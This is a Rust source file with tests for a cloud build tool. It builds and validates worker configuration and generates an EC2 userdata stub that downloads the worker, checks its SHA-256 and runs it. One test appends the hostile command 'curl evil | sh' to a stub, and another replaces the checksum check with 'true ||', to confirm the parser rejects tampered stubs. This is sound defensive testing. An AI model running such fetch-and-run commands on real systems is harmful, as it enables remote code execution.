//! The worker's configuration, as environment variables: ONE definition shared by start-workers
//! (which writes it into the userdata stub), the local fleet (which sets it on worker processes)
//! and the worker (which reads and validates it).

use std::collections::BTreeMap;
use std::time::Duration;

use serde::{Deserialize, Serialize};

/// Environment variable names (defined in [`crate::names::worker`]).
pub use crate::names::worker as vars;

/// Default of [`vars::LEASE_MARGIN_S`].
pub const DEFAULT_LEASE_MARGIN: Duration = Duration::from_secs(120);

/// How the worker ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Shutdown {
    /// Power the instance off (its shutdown behaviour is terminate).
    Poweroff,
    /// Just exit the process (local mode).
    Exit,
}

/// A worker's configuration.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct WorkerEnv {
    pub activity_arn: String,
    pub region: String,
    pub endpoint_url: Option<String>,
    pub instance_id: Option<String>,
    pub step: String,
    pub scripts: String,
    pub script: String,
    pub init_script: Option<String>,
    pub after_script: Option<String>,
    pub cleanup_script: Option<String>,
    /// The SHA-256 of each script, by path ([`vars::SCRIPTS_SHA256`]); empty = not checked.
    pub scripts_sha256: BTreeMap<String, String>,
    pub step_env: BTreeMap<String, String>,
    pub idle_timeout: Duration,
    pub max_tasks: u32,
    pub heartbeat: Duration,
    pub lease_margin: Duration,
    pub log_dir: Option<String>,
    pub log_group: Option<String>,
    pub work_dir: String,
    pub shutdown: Shutdown,
    pub stack: String,
}

impl WorkerEnv {
    /// The variables to set, in a stable order.
    pub fn to_vars(&self) -> Vec<(&'static str, String)> {
        let mut v = vec![
            (vars::ACTIVITY_ARN, self.activity_arn.clone()),
            (vars::REGION, self.region.clone()),
            (vars::STEP, self.step.clone()),
            (vars::SCRIPTS, self.scripts.clone()),
            (vars::SCRIPT, self.script.clone()),
            (
                vars::STEP_ENV,
                serde_json::to_string(&self.step_env).expect("strings serialise"),
            ),
            (
                vars::SCRIPTS_SHA256,
                serde_json::to_string(&self.scripts_sha256).expect("strings serialise"),
            ),
            (vars::IDLE_TIMEOUT_S, fmt_secs(self.idle_timeout)),
            (vars::MAX_TASKS, self.max_tasks.to_string()),
            (vars::HEARTBEAT_S, fmt_secs(self.heartbeat)),
            (vars::LEASE_MARGIN_S, fmt_secs(self.lease_margin)),
            (vars::WORK_DIR, self.work_dir.clone()),
            (
                vars::SHUTDOWN,
                match self.shutdown {
                    Shutdown::Poweroff => "poweroff",
                    Shutdown::Exit => "exit",
                }
                .into(),
            ),
            (vars::STACK, self.stack.clone()),
        ];
        for (k, o) in [
            (vars::ENDPOINT_URL, &self.endpoint_url),
            (vars::INSTANCE_ID, &self.instance_id),
            (vars::INIT_SCRIPT, &self.init_script),
            (vars::AFTER_SCRIPT, &self.after_script),
            (vars::CLEANUP_SCRIPT, &self.cleanup_script),
            (vars::LOG_DIR, &self.log_dir),
            (vars::LOG_GROUP, &self.log_group),
        ] {
            if let Some(x) = o {
                v.push((k, x.clone()));
            }
        }
        v
    }

    /// Reads and validates the configuration; the error lists every missing or bad variable.
    pub fn from_lookup(get: impl Fn(&str) -> Option<String>) -> Result<WorkerEnv, String> {
        let mut problems = vec![];
        let mut req = |k: &str| {
            get(k).filter(|v| !v.is_empty()).unwrap_or_else(|| {
                problems.push(format!("{k} is not set"));
                String::new()
            })
        };
        let activity_arn = req(vars::ACTIVITY_ARN);
        let region = req(vars::REGION);
        let step = req(vars::STEP);
        let scripts = req(vars::SCRIPTS);
        let script = req(vars::SCRIPT);
        let mut secs = |k: &str, default: f64| -> Duration {
            match get(k) {
                None => Duration::from_secs_f64(default),
                Some(v) => match v.parse::<f64>() {
                    Ok(x)
                        if x > 0.0
                            && let Ok(d) = Duration::try_from_secs_f64(x) =>
                    {
                        d
                    }
                    _ => {
                        problems.push(format!("{k}='{v}' is not a positive number of seconds"));
                        Duration::from_secs_f64(default)
                    }
                },
            }
        };
        let idle_timeout = secs(vars::IDLE_TIMEOUT_S, 600.0);
        let heartbeat = secs(vars::HEARTBEAT_S, 60.0);
        let lease_margin = secs(vars::LEASE_MARGIN_S, DEFAULT_LEASE_MARGIN.as_secs_f64());
        let max_tasks = match get(vars::MAX_TASKS) {
            None => 0,
            Some(v) => v.parse().unwrap_or_else(|_| {
                problems.push(format!("{}='{v}' is not a whole number", vars::MAX_TASKS));
                0
            }),
        };
        let step_env = match get(vars::STEP_ENV) {
            None => BTreeMap::new(),
            Some(v) => serde_json::from_str(&v).unwrap_or_else(|e| {
                problems.push(format!(
                    "{} is not a JSON object of strings: {e}",
                    vars::STEP_ENV
                ));
                BTreeMap::new()
            }),
        };
        let scripts_sha256: BTreeMap<String, String> = match get(vars::SCRIPTS_SHA256) {
            None => BTreeMap::new(),
            Some(v) => serde_json::from_str(&v).unwrap_or_else(|e| {
                problems.push(format!(
                    "{} is not a JSON object of strings: {e}",
                    vars::SCRIPTS_SHA256
                ));
                BTreeMap::new()
            }),
        };
        for (path, h) in &scripts_sha256 {
            if !(h.len() == 64 && h.bytes().all(|b| b.is_ascii_hexdigit())) {
                problems.push(format!(
                    "{}: '{h}' for {path} is not a SHA-256 (64 hex digits)",
                    vars::SCRIPTS_SHA256
                ));
            }
        }
        let shutdown = match get(vars::SHUTDOWN).as_deref() {
            None | Some("poweroff") => Shutdown::Poweroff,
            Some("exit") => Shutdown::Exit,
            Some(x) => {
                problems.push(format!("{}='{x}' must be poweroff or exit", vars::SHUTDOWN));
                Shutdown::Exit
            }
        };
        if let Some(u) = get(vars::ENDPOINT_URL)
            && !(u.starts_with("http://") || u.starts_with("https://"))
        {
            problems.push(format!(
                "{}='{u}' must be an http(s) URL",
                vars::ENDPOINT_URL
            ));
        }
        if !problems.is_empty() {
            return Err(format!(
                "worker configuration is incomplete:\n  {}\n(see the worker section of the README for every variable)",
                problems.join("\n  ")
            ));
        }
        Ok(WorkerEnv {
            activity_arn,
            region,
            endpoint_url: get(vars::ENDPOINT_URL),
            instance_id: get(vars::INSTANCE_ID),
            step,
            scripts,
            script,
            init_script: get(vars::INIT_SCRIPT),
            after_script: get(vars::AFTER_SCRIPT),
            cleanup_script: get(vars::CLEANUP_SCRIPT),
            scripts_sha256,
            step_env,
            idle_timeout,
            max_tasks,
            heartbeat,
            lease_margin,
            log_dir: get(vars::LOG_DIR),
            log_group: get(vars::LOG_GROUP),
            work_dir: get(vars::WORK_DIR).unwrap_or_else(|| "/var/lib/build-on-aws".into()),
            shutdown,
            stack: get(vars::STACK).unwrap_or_default(),
        })
    }

    /// Reads the process environment.
    pub fn from_env() -> Result<WorkerEnv, String> {
        WorkerEnv::from_lookup(|k| std::env::var(k).ok())
    }
}

fn fmt_secs(d: Duration) -> String {
    let s = d.as_secs_f64();
    if s.fract() == 0.0 {
        format!("{}", s as u64)
    } else {
        format!("{s}")
    }
}

/// Single-quotes a value for a POSIX shell.
pub fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// Where a worker fetches its binary from, and what proves it is the one deployed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct WorkerBinary<'a> {
    /// `s3://bucket/key` (or any URL the AWS CLI copies from).
    pub url: &'a str,
    /// The binary's SHA-256 (hex): the stub refuses to run anything else.
    pub sha256: Option<&'a str>,
    /// The account that must own the bucket (S3's bucket owner condition).
    pub bucket_owner: Option<&'a str>,
}

/// The machine-specific parts of the userdata stub, its only substitution points: where the
/// worker binary comes from, what powering off is, where the worker is installed and where its
/// output goes. Everything else (the exports, the power-off trap set before anything can fail, the
/// SHA-256 check and its refusal, running the worker) is the same text on every machine.
///
/// EC2 userdata is [`StubMachine::ec2`]. The local fleet runs the same stub with its own machine:
/// a copy of the local worker binary for the download, "end this instance" for the power-off, the
/// instance's work folder for the install folder (see `local::stack::fleet`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StubMachine {
    /// A shell command that puts the worker binary at `./worker` (in [`Self::install_dir`]).
    pub fetch: String,
    /// Where the fetched binary comes from, as the refusal message names it.
    pub source: String,
    /// The command the stub's EXIT trap runs: power the instance off.
    pub poweroff: String,
    /// The folder the worker is fetched into and run from.
    pub install_dir: String,
    /// The file the worker's stdout and stderr are appended to.
    pub worker_log: String,
}

impl StubMachine {
    /// An EC2 instance: the binary from the artifact bucket with the instance profile (checking
    /// the bucket's owner), `poweroff` (the instance's shutdown behaviour is terminate),
    /// `/opt/build-on-aws`, `/var/log/build-on-aws-worker.log`.
    pub fn ec2(binary: &WorkerBinary<'_>) -> StubMachine {
        let owner = binary
            .bucket_owner
            .map(|o| format!(" --expected-bucket-owner {}", shell_quote(o)))
            .unwrap_or_default();
        let fetch = match binary
            .url
            .strip_prefix("s3://")
            .and_then(|r| r.split_once('/'))
        {
            Some((bucket, key)) => format!(
                "aws s3api get-object --bucket {} --key {}{owner} ./worker >/dev/null",
                shell_quote(bucket),
                shell_quote(key)
            ),
            None => format!(
                "aws s3 cp {} ./worker --only-show-errors",
                shell_quote(binary.url)
            ),
        };
        StubMachine {
            fetch,
            source: binary.url.to_string(),
            poweroff: "poweroff".into(),
            install_dir: "/opt/build-on-aws".into(),
            worker_log: "/var/log/build-on-aws-worker.log".into(),
        }
    }
}

/// A word for the shell: as is when it needs no quoting (so plain paths read naturally), else
/// single-quoted.
fn shell_word(s: &str) -> String {
    if !s.is_empty()
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"/._-+:,=@%".contains(&b))
    {
        s.to_string()
    } else {
        shell_quote(s)
    }
}

/// What a userdata stub carries: the exported configuration and the worker binary's location,
/// SHA-256 and bucket owner. [`user_data`] renders it for EC2; the local fleet reads it back from
/// a launch's userdata ([`StubInputs::parse`]) and renders it for its own machine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StubInputs {
    /// `export K='V'` lines, in order.
    pub exports: Vec<(String, String)>,
    pub url: String,
    pub sha256: Option<String>,
    pub bucket_owner: Option<String>,
}

impl StubInputs {
    pub fn new(env: &WorkerEnv, binary: &WorkerBinary<'_>) -> StubInputs {
        StubInputs {
            exports: env
                .to_vars()
                .into_iter()
                .map(|(k, v)| (k.to_string(), v))
                .collect(),
            url: binary.url.to_string(),
            sha256: binary.sha256.map(str::to_string),
            bucket_owner: binary.bucket_owner.map(str::to_string),
        }
    }

    pub fn binary(&self) -> WorkerBinary<'_> {
        WorkerBinary {
            url: &self.url,
            sha256: self.sha256.as_deref(),
            bucket_owner: self.bucket_owner.as_deref(),
        }
    }

    /// The stub for `machine`. Whatever ends it runs the machine's power-off, with the reason in
    /// the console output (its stderr).
    pub fn render(&self, machine: &StubMachine) -> String {
        let mut s = String::from(
            "#!/bin/bash\n# build-on-aws worker bootstrap (generated)\nset -euo pipefail\n",
        );
        for (k, v) in &self.exports {
            s.push_str(&format!("export {k}={}\n", shell_quote(v)));
        }
        let dir = shell_word(&machine.install_dir);
        s.push_str(&format!(
            "# Whatever ends this stub (a failed download, a binary that is not the deployed one, a\n# worker that cannot start or exits) powers the instance off: an instance without a running\n# worker must not linger.\ntrap {} EXIT\nmkdir -p {dir} && cd {dir}\n",
            shell_quote(&machine.poweroff),
        ));
        s.push_str(&machine.fetch);
        s.push('\n');
        if let Some(sha) = &self.sha256 {
            // Inside double quotes: nothing in the source may expand.
            let source: String = machine
                .source
                .chars()
                .filter(|c| !matches!(c, '"' | '$' | '`' | '\\'))
                .collect();
            s.push_str(&format!(
                "if ! echo {}'  ./worker' | sha256sum -c --status -; then\n  echo \"build-on-aws: the worker binary from {source} is not the deployed one (SHA-256 $(sha256sum ./worker | cut -c1-64), expected {sha}): refusing to run it\" >&2\n  exit 1\nfi\n",
                shell_quote(sha),
            ));
        }
        s.push_str(&format!(
            "chmod +x ./worker\n./worker >>{} 2>&1\n",
            shell_word(&machine.worker_log)
        ));
        s
    }

    /// Reads back what [`user_data`] rendered for EC2. `None` unless rendering the result again
    /// gives `user_data` exactly: whatever runs a parsed stub runs the one start-workers wrote,
    /// only on another machine.
    pub fn parse(user_data: &str) -> Option<StubInputs> {
        let mut exports = vec![];
        let (mut url, mut sha256, mut bucket_owner) = (None, None, None);
        for words in shell_commands(user_data)? {
            let w: Vec<&str> = words.iter().map(String::as_str).collect();
            match w.as_slice() {
                ["export", kv] => {
                    let (k, v) = kv.split_once('=')?;
                    exports.push((k.to_string(), v.to_string()));
                }
                [
                    "aws",
                    "s3api",
                    "get-object",
                    "--bucket",
                    b,
                    "--key",
                    k,
                    rest @ ..,
                ] => {
                    url = Some(format!("s3://{b}/{k}"));
                    if let ["--expected-bucket-owner", o, ..] = rest {
                        bucket_owner = Some(o.to_string());
                    }
                }
                ["aws", "s3", "cp", u, ..] => url = Some(u.to_string()),
                ["if", "!", "echo", line, ..] => {
                    sha256 = Some(line.strip_suffix("  ./worker")?.to_string());
                }
                _ => {}
            }
        }
        let inputs = StubInputs {
            exports,
            url: url?,
            sha256,
            bucket_owner,
        };
        (inputs.render(&StubMachine::ec2(&inputs.binary())) == user_data).then_some(inputs)
    }
}

/// The commands of a shell text as words (quotes removed; `#` comments dropped). Enough for the
/// stub's own text; `None` on an unterminated quote.
fn shell_commands(text: &str) -> Option<Vec<Vec<String>>> {
    let mut commands = vec![];
    let mut words: Vec<String> = vec![];
    let mut word: Option<String> = None;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                let w = word.get_or_insert_with(String::new);
                loop {
                    match chars.next()? {
                        '\'' => break,
                        x => w.push(x),
                    }
                }
            }
            '"' => {
                let w = word.get_or_insert_with(String::new);
                loop {
                    match chars.next()? {
                        '"' => break,
                        '\\' => w.push(chars.next()?),
                        x => w.push(x),
                    }
                }
            }
            '\\' => {
                if let Some(x) = chars.next() {
                    word.get_or_insert_with(String::new).push(x);
                }
            }
            '#' if word.is_none() => while chars.next_if(|x| *x != '\n').is_some() {},
            '\n' | ' ' | '\t' => {
                words.extend(word.take());
                if c == '\n' && !words.is_empty() {
                    commands.push(std::mem::take(&mut words));
                }
            }
            x => word.get_or_insert_with(String::new).push(x),
        }
    }
    words.extend(word.take());
    if !words.is_empty() {
        commands.push(words);
    }
    Some(commands)
}

/// The userdata stub: exports the configuration, fetches the worker binary from the artifact
/// bucket with the instance profile (checking the bucket's owner), refuses it unless its SHA-256
/// is the deployed one, and runs it. No secrets, no task tokens. Whatever ends the stub powers the
/// instance off, with the reason in the console output. ([`StubInputs::render`] with
/// [`StubMachine::ec2`].)
pub fn user_data(env: &WorkerEnv, binary: &WorkerBinary<'_>) -> String {
    StubInputs::new(env, binary).render(&StubMachine::ec2(binary))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> WorkerEnv {
        WorkerEnv {
            activity_arn:
                "arn:aws:states:us-east-1:123456789012:activity:build-on-aws-hhvm-MakeSourceTarball"
                    .into(),
            region: "us-east-1".into(),
            endpoint_url: None,
            instance_id: None,
            step: "MakeSourceTarball".into(),
            scripts: "s3://artifacts/scripts".into(),
            script: "scripts/make-source-tarball.sh".into(),
            init_script: Some("scripts/init.sh".into()),
            after_script: None,
            cleanup_script: None,
            scripts_sha256: [("scripts/init.sh".to_string(), "ab".repeat(32))].into(),
            step_env: [("CC".to_string(), "clang it's".to_string())].into(),
            idle_timeout: Duration::from_secs(300),
            max_tasks: 0,
            heartbeat: Duration::from_millis(1500),
            lease_margin: Duration::from_secs(90),
            log_dir: None,
            log_group: Some("/build-on-aws/workers".into()),
            work_dir: "/mnt/work".into(),
            shutdown: Shutdown::Poweroff,
            stack: "build-on-aws-hhvm".into(),
        }
    }

    #[test]
    fn round_trips_through_variables() {
        let e = sample();
        let vars: BTreeMap<&str, String> = e.to_vars().into_iter().collect();
        let back = WorkerEnv::from_lookup(|k| vars.get(k).cloned()).unwrap();
        assert_eq!(back, e);
    }

    #[test]
    fn reports_every_missing_or_bad_variable() {
        let err = WorkerEnv::from_lookup(|k| (k == vars::IDLE_TIMEOUT_S).then(|| "soon".into()))
            .unwrap_err();
        for k in [
            vars::ACTIVITY_ARN,
            vars::REGION,
            vars::STEP,
            vars::SCRIPT,
            vars::IDLE_TIMEOUT_S,
        ] {
            assert!(err.contains(k), "{k} missing from: {err}");
        }
        // More seconds than a duration holds: named, not a panic.
        let mut vars: BTreeMap<&str, String> = sample().to_vars().into_iter().collect();
        vars.insert(vars::IDLE_TIMEOUT_S, "1e30".into());
        let err = WorkerEnv::from_lookup(|k| vars.get(k).cloned()).unwrap_err();
        assert!(err.contains("1e30"), "{err}");
    }

    const SHA: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    fn binary(sha: Option<&str>) -> WorkerBinary<'_> {
        WorkerBinary {
            url: "s3://artifacts/worker/worker",
            sha256: sha,
            bucket_owner: Some("123456789012"),
        }
    }

    #[test]
    fn user_data_quotes_values_and_has_no_token() {
        let u = user_data(&sample(), &binary(Some(SHA)));
        assert!(u.starts_with("#!/bin/bash"));
        assert!(
            u.contains(r#"export BOA_STEP_ENV='{"CC":"clang it'\''s"}'"#),
            "{u}"
        );
        assert!(!u.to_lowercase().contains("token"));
        assert!(u.contains("\n./worker "), "{u}");
        // The power-off trap is set before anything that can fail.
        let trap = u.find("trap 'poweroff' EXIT").expect("poweroff trap");
        let fetch = u.find("aws s3api get-object").expect("fetch");
        assert!(trap < fetch);
        assert!(
            u.contains(
                "--bucket 'artifacts' --key 'worker/worker' --expected-bucket-owner '123456789012'"
            ),
            "{u}"
        );
        // The check comes between the download and the run.
        let check = u.find("sha256sum -c").expect("checksum");
        assert!(
            fetch < check && check < u.find("\n./worker ").unwrap(),
            "{u}"
        );
    }

    /// Runs the stub in bash with `aws`, `poweroff` and the install folder faked: `aws` "downloads"
    /// `served` as the worker. Returns (the worker ran, poweroff ran, stderr).
    fn run_stub(served: &str, sha: &str) -> (bool, bool, String) {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path();
        let bin = d.join("bin");
        std::fs::create_dir_all(&bin).unwrap();
        let src = d.join("served");
        std::fs::write(&src, served).unwrap();
        let fake = |name: &str, body: String| {
            let p = bin.join(name);
            std::fs::write(&p, format!("#!/bin/bash\n{body}\n")).unwrap();
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        };
        // `aws s3api get-object … OUTFILE`: the last argument is where the object goes.
        fake("aws", format!("cp {} \"${{@: -1}}\"", src.display()));
        fake("poweroff", format!("touch {}/powered-off", d.display()));
        // The EC2 stub with its install folder and worker log moved into the test's folder.
        let b = binary(Some(sha));
        let stub = StubInputs::new(&sample(), &b).render(&StubMachine {
            install_dir: d.join("opt").display().to_string(),
            worker_log: d.join("worker.log").display().to_string(),
            ..StubMachine::ec2(&b)
        });
        let out = std::process::Command::new("bash")
            .arg("-c")
            .arg(&stub)
            .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
            .output()
            .unwrap();
        (
            d.join("ran").exists(),
            d.join("powered-off").exists(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    fn sha256_hex(text: &str) -> String {
        let out = std::process::Command::new("sha256sum")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .and_then(|mut c| {
                use std::io::Write;
                c.stdin.take().unwrap().write_all(text.as_bytes())?;
                c.wait_with_output()
            })
            .unwrap();
        String::from_utf8_lossy(&out.stdout)[..64].to_string()
    }

    #[test]
    fn the_stub_runs_the_deployed_worker_and_refuses_a_tampered_one() {
        // The served "worker" marks `ran` in the folder above the stub's install folder.
        let good = "#!/bin/bash\ntouch \"$(dirname \"$PWD\")/ran\"\n";
        let (ran, off, err) = run_stub(good, &sha256_hex(good));
        assert!(
            ran && off,
            "the deployed worker runs, then the instance powers off: {err}"
        );
        let tampered = "#!/bin/bash\ntouch \"$(dirname \"$PWD\")/ran\" # and more\n";
        let (ran, off, err) = run_stub(tampered, &sha256_hex(good));
        assert!(!ran, "a tampered worker must not run: {err}");
        assert!(off, "the instance powers off");
        assert!(
            err.contains("is not the deployed one") && err.contains(&sha256_hex(good)),
            "{err}"
        );
    }

    #[test]
    fn a_stub_reads_back_exactly_and_nothing_else_does() {
        let mut env = sample();
        env.step_env.insert(
            "MULTI".into(),
            "line one\nline 'two' # not a comment".into(),
        );
        for b in [
            binary(Some(SHA)),
            binary(None),
            WorkerBinary {
                url: "https://example.com/worker",
                sha256: Some(SHA),
                bucket_owner: None,
            },
        ] {
            let u = user_data(&env, &b);
            let back = StubInputs::parse(&u).unwrap_or_else(|| panic!("{u}"));
            assert_eq!(back, StubInputs::new(&env, &b));
            assert_eq!(back.binary(), b);
            // Any other text is not read as a stub: an extra command, a changed hash.
            assert_eq!(StubInputs::parse(&format!("{u}curl evil | sh\n")), None);
            if b.sha256.is_some() {
                assert_eq!(
                    StubInputs::parse(&u.replacen("sha256sum -c", "true ||", 1)),
                    None
                );
            }
        }
        assert_eq!(
            StubInputs::parse("#!/bin/bash\nexport BOA_STEP='Build'\n"),
            None
        );
    }

    #[test]
    fn another_machine_changes_only_the_substitution_points() {
        let b = binary(Some(SHA));
        let inputs = StubInputs::new(&sample(), &b);
        let ec2 = inputs.render(&StubMachine::ec2(&b));
        let local = inputs.render(&StubMachine {
            fetch: "cp /w/target/worker ./worker".into(),
            source: "/w/target/worker".into(),
            poweroff: "echo build-on-aws: poweroff".into(),
            install_dir: "/w/run/i-1/opt".into(),
            worker_log: "/w/run/logs/i-1 worker.log".into(),
        });
        let ec2_lines: Vec<&str> = ec2.lines().collect();
        let local_lines: Vec<&str> = local.lines().collect();
        assert_eq!(ec2_lines.len(), local_lines.len());
        let differ: Vec<(&str, &str)> = ec2_lines
            .iter()
            .zip(&local_lines)
            .filter(|(a, b)| a != b)
            .map(|(a, b)| (*a, *b))
            .collect();
        assert_eq!(
            differ,
            vec![
                (
                    "trap 'poweroff' EXIT",
                    "trap 'echo build-on-aws: poweroff' EXIT"
                ),
                (
                    "mkdir -p /opt/build-on-aws && cd /opt/build-on-aws",
                    "mkdir -p /w/run/i-1/opt && cd /w/run/i-1/opt"
                ),
                (
                    "aws s3api get-object --bucket 'artifacts' --key 'worker/worker' --expected-bucket-owner '123456789012' ./worker >/dev/null",
                    "cp /w/target/worker ./worker"
                ),
                (
                    "  echo \"build-on-aws: the worker binary from s3://artifacts/worker/worker is not the deployed one (SHA-256 $(sha256sum ./worker | cut -c1-64), expected 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef): refusing to run it\" >&2",
                    "  echo \"build-on-aws: the worker binary from /w/target/worker is not the deployed one (SHA-256 $(sha256sum ./worker | cut -c1-64), expected 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef): refusing to run it\" >&2"
                ),
                (
                    "./worker >>/var/log/build-on-aws-worker.log 2>&1",
                    "./worker >>'/w/run/logs/i-1 worker.log' 2>&1"
                ),
            ]
        );
    }
}
